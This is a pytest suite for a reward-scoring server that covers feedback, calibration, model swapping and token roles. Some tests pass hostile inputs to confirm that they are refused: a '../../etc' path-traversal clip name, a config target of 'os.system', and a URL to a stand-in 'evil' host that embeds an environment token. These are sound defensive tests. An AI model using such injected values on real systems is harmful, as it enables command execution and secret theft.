import json
import threading
from contextlib import ExitStack
from dataclasses import replace
from pathlib import Path

import httpx
import numpy as np
import pytest

from rewarder.admin_api import Records
from rewarder.checkpoint import ModelUnavailable
from rewarder.feedback import FeedbackStore
from rewarder.messages import clip_message
from rewarder.reward import NoScore, Score
from rewarder.score_log import ScoreLog
from rewarder.server import load
from robot.tokens import Role, TokenFile, rotate


class Says:
    """A model that reads its log-odds from the first joint, and is sure of its progress."""

    def __init__(self, name="vlm#1", *, prompt="abc", notes=None):
        self.name, self.notes = name, {"prompt_sha": prompt} | (notes or {})
        self.fails, self.gate, self.started = None, None, threading.Event()

    def score(self, clip):
        self.started.set()
        if self.gate:
            assert self.gate.wait(20)
        if self.fails:
            raise self.fails
        logit = clip.joint_pos[:, 0].copy()
        valid = np.ones(len(clip), bool)
        return Score(
            success=logit > 0.0, progress=np.full(len(clip), 0.5), valid=valid, model=self.name,
            logit=logit, notes=self.notes,
        )  # fmt: skip


@pytest.fixture
def records(tmp_path):
    score_log = ScoreLog(tmp_path / "log", days=2, most_mb=8, secrets=[])
    yield Records(score_log=score_log, feedback=FeedbackStore(tmp_path / "feedback"))
    score_log.close()


@pytest.fixture
def client_of(served):
    with ExitStack() as stack:

        def make(model, **options):
            url = stack.enter_context(served(model, **options))
            return stack.enter_context(httpx.Client(base_url=url, timeout=30))

        yield make


@pytest.fixture
def message(clip):
    def make(logit, goal="Lift the red cube."):
        joints = clip.joint_pos.copy()
        joints[:, 0] = logit
        return clip_message(replace(clip, goal=goal, joint_pos=joints))

    return make


def judge_many(client, message, count=24, *, wrong=0):
    """Have clips scored whose log-odds are far from 0, and say of all but `wrong` that it is so."""
    for number in range(count):
        logit = (1.0 if number % 2 else -1.0) * (1.0 + 0.1 * number)
        scored = client.post("/score", json=message(logit)).json()
        success = (logit > 0) != (number < wrong)
        answer = client.post(
            "/feedback", json={"request_id": scored["request_id"], "success": success}
        )
        assert answer.status_code == 200, answer.text


def test_a_verdict_is_kept_beside_what_was_said(client_of, records, message):
    client = client_of(Says(), records=records)
    scored = client.post("/score", json=message(-2.0)).json()
    answer = client.post("/feedback", json={"request_id": scored["request_id"], "success": True})
    assert answer.json() == {
        "request_id": scored["request_id"], "clip": scored["clip"], "model": "vlm#1",
        "said": False, "success": True,
    }  # fmt: skip
    [kept] = FeedbackStore(records.feedback.folder).all()
    assert (kept.success, kept.score.logit[-1]) == (True, -2.0)


def test_a_clip_may_be_named_by_its_hash_and_a_later_verdict_replaces_an_earlier(
    client_of, records, message
):
    client = client_of(Says(), records=records)
    scored = [client.post("/score", json=message(1.0)).json() for _ in range(2)]
    for success in (True, False):
        client.post("/feedback", json={"clip": scored[0]["clip"], "success": success})
    client.post("/feedback", json={"request_id": scored[1]["request_id"], "success": False})
    assert [one.success for one in records.feedback.all()] == [False]


def test_each_clip_of_a_batch_can_be_named_by_itself(client_of, records, message):
    client = client_of(Says(), records=records)
    batch = {"clips": [message(-1.0), message(2.0)]}
    for scored in client.post("/score_batch", json=batch).json()["results"]:
        kept = client.post("/feedback", json={"request_id": scored["request_id"], "success": True})
        assert kept.json()["clip"] == scored["clip"]


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        ({"request_id": "0" * 32, "success": True}, 404, "not_found"),
        ({"clip": "0" * 32, "success": True}, 404, "not_found"),
        ({"success": True}, 422, "invalid"),
        ({"clip": "0" * 32, "request_id": "0" * 32, "success": True}, 422, "invalid"),
        ({"clip": "../../etc", "success": True}, 422, "invalid"),
        ({"clip": "0" * 32, "success": 1}, 422, "invalid"),
    ],
)
def test_a_verdict_on_nothing_known_is_refused(client_of, records, body, status, code):
    answer = client_of(Says(), records=records).post("/feedback", json=body)
    assert (answer.status_code, answer.json()["code"]) == (status, code)


def test_without_a_log_or_a_folder_there_is_no_feedback(client_of, records):
    client = client_of(Says())
    body = {"clip": "0" * 32, "success": True}
    assert client.post("/feedback", json=body).json()["code"] == "no_log"
    assert client.get("/agreement").json()["code"] == "no_feedback"


def test_a_verdict_that_the_disk_does_not_take_is_not_claimed_to_be_kept(
    client_of, records, message
):
    client = client_of(Says(), records=records)
    scored = client.post("/score", json=message(1.0)).json()
    records.feedback.folder.write_text("in the way")
    answer = client.post("/feedback", json={"clip": scored["clip"], "success": True})
    assert (answer.status_code, answer.json()["code"]) == (503, "not_kept")


def test_agreement_counts_each_model_by_itself_with_intervals(client_of, records, message):
    judge_many(client_of(Says(), records=records), message, count=20, wrong=2)
    judge_many(client_of(Says("other#2"), records=records), message, count=10)
    models = client_of(Says(), records=records).get("/agreement").json()["models"]
    found = {one["model"]: one for one in models}
    accuracy = found["vlm#1"]["accuracy"]
    assert (accuracy["hits"], accuracy["of"]) == (18, 20)
    assert (accuracy["lower"], accuracy["upper"]) == pytest.approx((0.699, 0.972), abs=1e-3)
    assert found["vlm#1"]["kappa"] == pytest.approx(0.8)
    assert found["other#2"]["accuracy"]["share"] == 1.0


def test_nothing_said_is_no_agreement_and_no_error(client_of, records):
    assert client_of(Says(), records=records).get("/agreement").json() == {"models": []}


def test_a_calibration_is_fitted_to_the_feedback_and_used(client_of, records, message):
    client = client_of(Says(), records=records)
    judge_many(client, message)
    made = client.post("/calibrate", json={"precision": 0.7, "days": 30})
    assert made.status_code == 200, made.text
    scored = client.post("/score", json=message(3.0)).json()
    assert scored["notes"]["calib_id"] == made.json()["calib_id"]
    assert not scored["cached"]
    assert scored["evidence"]["p_success"] > 0.9
    assert json.loads(Path(made.json()["file"]).read_text())["clips"] == 24


def test_a_calibrated_model_is_calibrated_anew_by_its_raw_log_odds(client_of, records, message):
    client = client_of(Says(), records=records)
    judge_many(client, message)
    first, again = (client.post("/calibrate", json={"precision": 0.7}).json() for _ in range(2))
    assert first["calib_id"] == again["calib_id"]


def test_verdicts_on_another_prompt_are_left_out(client_of, records, message):
    judge_many(client_of(Says(prompt="old"), records=records), message)
    client = client_of(Says(), records=records)
    client.post("/score", json=message(1.0))
    answer = client.post("/calibrate", json={"precision": 0.7})
    assert (answer.status_code, answer.json()["code"]) == (409, "not_calibrated")
    assert "none of 24 verdicts" in answer.json()["message"]


def test_too_few_verdicts_change_nothing(client_of, records, message):
    client = client_of(Says(), records=records)
    judge_many(client, message, count=6)
    answer = client.post("/calibrate", json={})
    assert "expected 20 clips or more" in answer.json()["message"]
    assert "calib_id" not in client.post("/score", json=message(1.0)).json()["notes"]


def test_a_ladder_is_not_calibrated_as_a_whole(client_of, records, message):
    client = client_of(Says(notes={"rung": "vlm"}), records=records)
    judge_many(client, message)
    assert "serve one of them" in client.post("/calibrate", json={}).json()["message"]


def loader(**models):
    def load(name, settings):
        if name not in models:
            raise ModelUnavailable(f"there is no {name}")
        return models[name]

    return load


def test_another_model_answers_after_a_swap_also_where_the_old_one_had_answered(client_of, message):
    client = client_of(Says(), load=loader(new=Says("new#2")))
    client.post("/score", json=message(1.0))
    assert client.post("/swap", json={"reward": "new"}).json() == {"reward": "new"}
    scored = client.post("/score", json=message(1.0)).json()
    assert (scored["model"], scored["cached"]) == ("new#2", False)


def test_a_request_in_flight_is_answered_by_the_model_that_it_began_with(client_of, message):
    old = Says("old#1")
    old.gate = threading.Event()
    client = client_of(old, load=loader(new=Says("new#2")))
    answers = []
    flight = threading.Thread(
        target=lambda: answers.append(client.post("/score", json=message(1.0)).json())
    )
    flight.start()
    assert old.started.wait(10)
    assert client.post("/swap", json={"reward": "new"}).status_code == 200
    later = client.post("/score", json=message(1.0)).json()
    old.gate.set()
    flight.join(10)
    assert (answers[0]["model"], later["model"]) == ("old#1", "new#2")
    # What the old one says at last is not taken for the other's.
    assert client.post("/score", json=message(1.0)).json()["model"] == "new#2"


class Crashes:
    def score(self, clip):
        raise RuntimeError("shapes differ")


@pytest.mark.parametrize("name", ["nix", "down", "crashes"])
def test_a_model_that_cannot_be_had_or_fails_its_trial_leaves_the_old_one(client_of, message, name):
    down = Says("down#2")
    down.fails = NoScore("connection refused", retry=True)
    client = client_of(Says(), load=loader(down=down, crashes=Crashes()))
    client.post("/score", json=message(1.0))
    answer = client.post("/swap", json={"reward": name})
    assert (answer.status_code, answer.json()["code"]) == (409, "unavailable")
    assert client.post("/score", json=message(2.0)).json()["model"] == "vlm#1"


def test_one_model_is_loaded_at_a_time(client_of, message):
    loading, go_on = threading.Event(), threading.Event()

    def slow(name, settings):
        loading.set()
        assert go_on.wait(20)
        return Says("new#2")

    client = client_of(Says(), load=slow)
    first = threading.Thread(target=lambda: client.post("/swap", json={"reward": "a"}))
    first.start()
    assert loading.wait(10)
    busy = client.post("/swap", json={"reward": "b"})
    assert client.post("/score", json=message(1.0)).json()["model"] == "vlm#1"
    go_on.set()
    first.join(10)
    assert "being loaded" in busy.json()["message"]
    assert client.post("/score", json=message(1.0)).json()["model"] == "new#2"


@pytest.mark.parametrize(
    ("path", "role"),
    [("/feedback", Role.OPERATE), ("/calibrate", Role.ADMIN), ("/swap", Role.ADMIN)],
)
def test_what_changes_something_needs_a_role(client_of, tmp_path, path, role):
    file = tmp_path / "tokens"
    tokens = {each: rotate(each, file) for each in Role}
    client = client_of(Says(), tokens=TokenFile(file))
    status = {
        each: client.post(path, json={}, headers={"Authorization": f"Bearer {token}"}).status_code
        for each, token in tokens.items()
    }
    assert {each for each, code in status.items() if code == 403} == {e for e in Role if e < role}
    assert client.post(path, json={}).status_code == 401
    seen = client.get("/ready", headers={"Authorization": f"Bearer {tokens[Role.VIEW]}"})
    assert seen.status_code == 200


def test_a_model_is_loaded_by_its_name_with_settings():
    assert type(load("heuristic", {})).__name__ == "HeuristicReward"
    model = load("openai", {"model.model": "Qwen/other", "model.timeout_s": 3.0})
    assert model._model.name.startswith("Qwen/other")


@pytest.mark.parametrize(
    ("name", "settings", "why"),
    [
        ("nix", {}, "nix"),
        ("openai", {"nothing": 1}, "nothing"),
        ("openai", {"model": "x"}, "nothing that a peer may set"),
        ("openai", {"model._target_": "os.system"}, "nothing that a peer may set"),
        ("openai", {"model.url": "http://evil/${oc.env:VLM_TOKEN}"}, "nothing that a peer may set"),
        ("openai", {"model.url": "ftp://nowhere"}, "VLM_URL must begin with"),
        ("remote", {}, "REWARDER_URL"),
    ],
)
def test_a_name_or_setting_that_makes_no_sense_is_unavailable(monkeypatch, name, settings, why):
    monkeypatch.delenv("REWARDER_URL", raising=False)
    with pytest.raises(ModelUnavailable, match=why):
        load(name, settings)
